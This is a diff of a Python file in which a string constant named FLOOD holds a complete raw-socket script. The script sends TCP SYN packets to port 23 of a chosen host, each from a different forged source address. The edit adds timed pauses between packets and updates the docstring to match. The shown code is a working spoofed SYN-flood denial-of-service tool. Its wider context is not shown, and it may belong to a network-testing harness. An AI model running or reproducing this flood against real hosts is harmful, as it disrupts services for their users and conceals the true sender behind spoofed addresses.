@@ -72,16 +72,19 @@ for port in sys.argv[3:]:
 
 
 FLOOD = """
-import socket, struct, sys
-host, count = sys.argv[1], int(sys.argv[2])
+import socket, struct, sys, time
+host, count, pause = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
+begin = time.monotonic()
 raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
 tcp = struct.pack("!HHIIBBHHH", 4000, 23, 0, 0, 80, 2, 1024, 0, 0)
 for number in range(count):
     source, target = struct.pack("!I", 0x14000000 + number), socket.inet_aton(host)
     ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, 6, 0, source, target)
     raw.sendto(ip + tcp, (host, 0))
+    if pause:
+        time.sleep(max(0, begin + number * pause - time.monotonic()))
 """
-"""Sends a SYN of each of so many forged sources."""
+"""Sends a SYN of each of so many forged sources, with pauses between them."""
 
 
 def missing() -> str:
